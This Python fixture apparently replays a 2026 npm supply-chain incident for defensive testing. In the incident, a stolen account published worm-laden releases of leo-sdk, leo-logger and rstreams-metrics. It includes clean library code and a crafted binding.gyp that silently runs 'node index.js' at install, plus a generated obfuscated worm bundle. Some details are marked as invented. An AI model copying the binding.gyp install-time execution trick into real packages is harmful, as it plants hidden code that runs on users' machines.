"""leo-sdk 6.0.19, leo-logger 1.0.8, rstreams-metrics 2.0.2 and 18 packages more (2026-06-24): the worm with a taken account.

By the record: 20 packages within three seconds from 23:04:55 UTC, by their owner's account. Each has a new `binding.gyp`, whose command
npm runs at install since it builds what has such a file, and an `index.js` of 5.2 MB that the command starts. package.json has no
script. Old lines were released: of leo-sdk the sixth, where the seventh was current. Taken down the next day.
"""

from functools import cache

from gauntlet.incident import Advisory, Incident, Package, Release, utc
from gauntlet.loaders import as_numbers, worm
from gauntlet.shapes import Made, bundle
from pratique.core.names import Ecosystem

_LOGGER = {
    "lib/logger.js": """'use strict';
const util = require('util');
const levels = ['error', 'warn', 'info', 'debug'];
let wanted = null;

function matches(name) {
  return wanted === null || wanted.test(name);
}

function logger(name, settings = {}) {
  const most = levels.indexOf(settings.level || 'info');
  const out = settings.out || process.stderr;
  const one = { name, sub: (part) => logger(`${name}:${part}`, settings) };
  for (const [index, level] of levels.entries()) {
    one[level] = (...values) => {
      if (index <= most && matches(name)) out.write(`[${name}] ${level} ${util.format(...values)}\\n`);
    };
  }
  one.time = (label) => {
    const begun = Date.now();
    return () => one.debug(label, Date.now() - begun, 'ms');
  };
  return one;
}

logger.configure = (pattern) => { wanted = pattern; };
module.exports = logger;
""",
}
_SDK = {
    "lib/sdk.js": """'use strict';
const { pipeline, Transform, Writable } = require('stream');
const logger = require('leo-logger')('leo-sdk');

function through(fn, flush) {
  return new Transform({
    objectMode: true,
    transform(chunk, encoding, done) { fn.call(this, chunk, done); },
    flush(done) { flush ? flush.call(this, done) : done(); },
  });
}

function batch({ count, bytes = Infinity }) {
  let held = [];
  let size = 0;
  return through(function (event, done) {
    held.push(event);
    size += JSON.stringify(event).length;
    if (held.length >= count || size >= bytes) {
      this.push({ payload: held, size });
      held = [];
      size = 0;
    }
    done();
  }, function (done) {
    if (held.length) this.push({ payload: held, size });
    done();
  });
}

module.exports = (bus) => ({
  through,
  batch,
  load: (id, queue) => new Writable({
    objectMode: true,
    write(event, encoding, done) { bus.put(queue, { id, event: queue, payload: event, timestamp: Date.now() }).then(() => done(), done); },
  }),
  enrich(source, each, target, done) {
    pipeline(source, through((event, next) => each(event.payload, event, next)), target, (error) => {
      if (error) logger.error('enrich', error);
      done(error);
    });
  },
});
""",
}
_METRICS = {
    "lib/metrics.js": """'use strict';
class Metrics {
  constructor(reporters) {
    this.reporters = reporters;
    this.values = new Map();
  }
  log({ id, value = 1, tags = {} }) {
    const key = id + JSON.stringify(Object.entries(tags).sort());
    const before = this.values.get(key) || { id, tags, count: 0, sum: 0 };
    this.values.set(key, { ...before, count: before.count + 1, sum: before.sum + value });
  }
  async end() {
    const all = [...this.values.values()];
    this.values.clear();
    await Promise.all(this.reporters.map((one) => one.send(all)));
  }
}

exports.Metrics = Metrics;
exports.consoleReporter = (out = process.stdout) => ({
  send: async (all) => all.forEach((one) => out.write(`${one.id} ${one.count} ${one.sum}\\n`)),
});
""",
}
_GYP = """{
  "targets": [
    {
      "target_name": "Setup",
      "type": "none",
      "sources": ["<!(node index.js > /dev/null 2>&1 && echo stub.c)"]
    }
  ]
}
"""
_KINDS = {
    "leo-logger": (_LOGGER, "lib/logger.js"),
    "leo-sdk": (_SDK, "lib/sdk.js"),
    "rstreams-metrics": (_METRICS, "lib/metrics.js"),
}


@cache
def _worm() -> str:
    return as_numbers(
        bundle(worm("preinstall", "node index.js", ("index.js",)), size=230_000, seed=624), shift=5
    )


def _release(name: str, version: str, at: str, *, bad: bool = False) -> Release:
    files, main = _KINDS[name]
    return Release(
        version=version,
        at=utc(at),
        publisher="czirker",
        maintainers=("czirker", "second-owner"),
        files=Made({**files, "binding.gyp": _GYP, "index.js": _worm}) if bad else files,
        depends={"leo-logger": "^1.0.1"} if name == "leo-sdk" else {},
        scripts={"test": "mocha"},
        more={"main": main},
    )


_GOOD = {
    "leo-logger": (("1.0.5", "2023-02-14"), ("1.0.6", "2024-06-11"), ("1.0.7", "2025-01-23T18:53:22.317Z")),
    "leo-sdk": (
        ("6.0.16", "2024-11-19"),
        ("6.0.17", "2025-06-03"),
        ("6.0.18", "2026-02-10"),
        ("7.1.20", "2026-05-20"),
        ("7.1.21", "2026-06-12T16:14:34.784Z"),
    ),
    "rstreams-metrics": (("2.0.0", "2023-03-07"), ("2.0.1", "2024-04-04T15:02:47.573Z")),
}
_BAD = {
    "leo-logger": ("1.0.8", "23:04:55"),
    "leo-sdk": ("6.0.19", "23:04:56"),
    "rstreams-metrics": ("2.0.2", "23:04:57"),
}
_GUILTY = {name: (version,) for name, (version, _) in _BAD.items()}

INCIDENT = Incident(
    id="leoplatform-2026",
    title=(
        "a stolen account published 20 LeoPlatform packages in three seconds; a `binding.gyp` ran the worm"
    ),
    copy="our copy has a `binding.gyp` that starts a worm bundle of a fifth of the recorded size",
    ecosystem=Ecosystem.NPM,
    at=utc("2026-06-24T23:04:55Z"),
    packages=tuple(
        Package(
            name=name,
            releases=(
                *(_release(name, *one) for one in _GOOD[name]),
                _release(name, _BAD[name][0], f"2026-06-24T{_BAD[name][1]}Z", bad=True),
            ),
        )
        for name in _GOOD
    ),
    asks={"leo-sdk": "^6.0.16", "rstreams-metrics": "^2.0.0"},
    good={"leo-sdk": "6.0.18", "leo-logger": "1.0.7", "rstreams-metrics": "2.0.1"},
    bad=_GUILTY,
    guilty=_GUILTY,
    gone_at=utc("2026-06-25T06:00:00Z"),
    advisory=Advisory(id="GHSA", at=utc("2026-06-25T12:00:00Z"), about=_GUILTY),
    invented=(
        "most times of earlier releases, the text of `binding.gyp`, the packing; only three of 20 packages are replayed"
    ),
)
